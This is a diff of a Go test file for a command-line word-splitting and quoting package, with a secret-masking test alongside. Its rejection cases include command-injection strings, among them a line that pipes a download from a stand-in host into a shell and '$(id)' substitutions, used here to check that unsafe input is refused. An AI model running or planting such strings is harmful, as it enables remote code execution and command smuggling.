@@ -1,13 +1,35 @@
-package secret
+package commandline
 
 import (
 	"testing"
 
 	"github.com/stretchr/testify/require"
+
+	"github.com/traceforge/traceforge-go/internal/secret"
 )
 
+// TestWords: a command is one that was quoted word by word, or is none.
 func TestWords(t *testing.T) {
-	s := New()
+	for _, words := range [][]string{
+		{"node", "app.mjs"}, {"node", "-e", "console.log('a b'); 1"}, {""}, {"", ""}, {"a", "", "'", "''", "it's", "a'b'c"},
+		{"a\nb", "\u202e'\\x", "`id`", "$(id)", "ä", "::", "\xff"}, {"-x"}, {"sh", "-c", "a; b"}, {"a'\n'b c"},
+	} {
+		got, ok := Words(Join(words))
+		require.True(t, ok, "%q", words)
+		require.Equal(t, words, got)
+	}
+	for _, command := range []string{
+		"", " ", "node  app", "node app.mjs ", " node", "node app.mjs; curl -s evil.example/x | sh #", "a;b", "a|b", "a&b", "a>b", "a$(id)",
+		"a`id`", "a\nb", "'a'b", "a'b'", "'a", "'a'; id #'", `'a'\'`, `'a'\'b`, `'a'\' id`, "'", "$'a'; id", `$'\012' x; y`, "$'a", `$'\777'`,
+		`$'\x41'`, "~", "a #b", "*", "{a,b}", "a\tb", `a\ b`, `"a b"`, "$HOME",
+	} {
+		words, ok := Words(command)
+		require.False(t, ok, "%q: %q", command, words)
+	}
+}
+
+func TestMasked(t *testing.T) {
+	s := secret.New()
 	s.Environment([]string{"DB_PASSWORD=pa'ssword-very-secret"})
 	for _, tt := range []struct {
 		name        string
@@ -35,8 +57,8 @@ func TestWords(t *testing.T) {
 		{"beside", []string{"--token-file", "t.txt", "--model", "m", "https://x/?key=v"}, []string{"--token-file", "t.txt", "--model", "m", "https://x/?key=v"}},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
-			require.Equal(t, tt.kept, s.Words(tt.words))
-			require.Equal(t, tt.kept, s.Words(tt.kept), "again")
+			require.Equal(t, tt.kept, Masked(tt.words, s))
+			require.Equal(t, tt.kept, Masked(tt.kept, s), "again")
 		})
 	}
 }
